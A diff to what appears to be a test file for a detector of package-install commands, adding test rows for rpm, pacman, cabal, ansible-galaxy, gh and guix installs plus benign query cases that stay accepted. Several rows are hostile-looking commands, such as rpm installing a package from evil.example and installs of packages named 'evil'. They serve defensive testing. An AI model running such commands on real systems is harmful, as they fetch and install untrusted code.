@@ -262,6 +262,22 @@ const BACKTICKS_HIDDEN: FindingRow[] = [
   ['src/check.rb', 'x = "a\nb" + `npm install evil-pkg`'],
 ];
 
+// Review of D/P's fix, M4: installs through the new managers their one table entry missed: rpm's mode after an
+// option or in a cluster, pacman's after an option or later in a cluster, cabal's v2-/new-install, ansible-galaxy's
+// collection and role installs, gh's `extensions`, a package guix shell fetches and runs.
+const NEW_MANAGERS_INSTALL: FindingRow[] = [
+  SYSTEM('rpm -vih https://evil.example/x.rpm'),
+  SYSTEM('rpm --nosignature -i https://evil.example/x.rpm'),
+  SYSTEM('pacman --noconfirm -S evil'),
+  SYSTEM('pacman -yS evil'),
+  SYSTEM('cabal v2-install evil'),
+  SYSTEM('cabal new-install evil'),
+  SYSTEM('ansible-galaxy collection install evil.x'),
+  SYSTEM('ansible-galaxy role install evil.x'),
+  SYSTEM('gh extensions install evil/gh-x'),
+  SYSTEM('guix shell evil -- evil'),
+];
+
 // Still open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's
 // `Process(…)` (a name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder).
 const BACKTICK_CALLS_OPEN: FindingRow[] = [
@@ -638,6 +654,7 @@ describeFindings('attack-48', [
   ['B review M3 plumbum aliases', closedRows(PLUMBUM_ALIASES)],
   ['P review M1 common-word managers', closedRows(COMMON_WORD_MANAGERS)],
   ['B review H2 backticks hidden', closedRows(BACKTICKS_HIDDEN)],
+  ['P review M4 new managers install', closedRows(NEW_MANAGERS_INSTALL)],
   ['C deno remote modules', DENO_REMOTE],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
@@ -756,6 +773,13 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   ['src/check.pl', 'warn("$0 script version, CPAN.pm version");'],
   ['src/check.pl', "return `rpm --queryformat '%{VERSION}' -q $package`;"],
   SYSTEM('pacman -Qi bash'),
+  // Review of D/P's fix, M4: pacman's searches and rpm's queries, verifications and evaluations, guix's manifest.
+  SYSTEM('pacman -Ss bash'),
+  SYSTEM('pacman -Si bash'),
+  SYSTEM('rpm -qi bash'),
+  SYSTEM('rpm -Va'),
+  SYSTEM("rpm -E '%{_arch}'"),
+  SYSTEM('guix shell -m manifest.scm -- make check'),
 ]);
 
 /**
